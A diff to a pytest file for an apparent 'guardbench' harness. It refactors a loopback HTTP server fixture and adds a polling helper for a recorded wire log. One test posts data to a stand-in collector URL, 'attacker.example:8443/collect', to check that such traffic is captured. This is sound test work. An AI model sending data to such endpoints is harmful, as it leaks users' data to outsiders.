@@ -6,7 +6,7 @@ import threading
 
 import pytest
 
-from guardbench.cli.sandbox import make_server
+from guardbench.transport.http_server import make_server
 from guardbench.paypal.endpoints import SANDBOX_HOST
 from guardbench.paypal.standin import BENCH_CLIENT_ID, BENCH_CLIENT_SECRET
 from guardbench.records import WireRequest
@@ -15,10 +15,22 @@ from guardbench.transport.loopback import LoopbackTransport
 from guardbench.transport.recording import read_jsonl
 
 
+def _wait_for(record, n: int, timeout: float = 10.0):
+    """The record's exchanges once it holds n (each line is written once its response was sent)."""
+    import time
+
+    deadline = time.monotonic() + timeout
+    while True:
+        ex = read_jsonl(record) if record.exists() else []
+        if len(ex) >= n or time.monotonic() > deadline:
+            return ex
+        time.sleep(0.01)
+
+
 @pytest.fixture
 def server(tmp_path):
     record = tmp_path / "wire.jsonl"
-    srv, sink = make_server(0, record=str(record))
+    srv = make_server(0, record=str(record))
     th = threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
     th.start()
     try:
@@ -26,7 +38,7 @@ def server(tmp_path):
     finally:
         srv.shutdown()
         srv.server_close()
-        sink.close()
+        srv.recorder.close()
 
 
 def test_loopback_round_trip_and_record(server):
@@ -38,12 +50,12 @@ def test_loopback_round_trip_and_record(server):
     assert r.status == 200 and r.json()["token_type"] == "Bearer"
     r = t.send(WireRequest.make("POST", "https://attacker.example:8443/collect?x=1", {"X-A": "1"}, {"k": "v"}))
     assert r.status == 200 and r.json() == {"received": True}
-    ex = read_jsonl(record)
+    ex = _wait_for(record, 2)
     assert [e.seq for e in ex] == [0, 1]
     assert ex[0].request.url == f"https://{SANDBOX_HOST}/v1/oauth2/token"
     assert ex[1].request.url == "https://attacker.example:8443/collect?x=1"
     assert ex[1].request.headers == (("X-A", "1"),) and ex[1].request.body == '{"k":"v"}'
-    assert srv.transport.exchanges == tuple(ex)
+    assert srv.recorder.count == 2 and not hasattr(srv.transport, "exchanges")   # streamed, not kept
 
 
 def test_loopback_refuses_non_local_base():
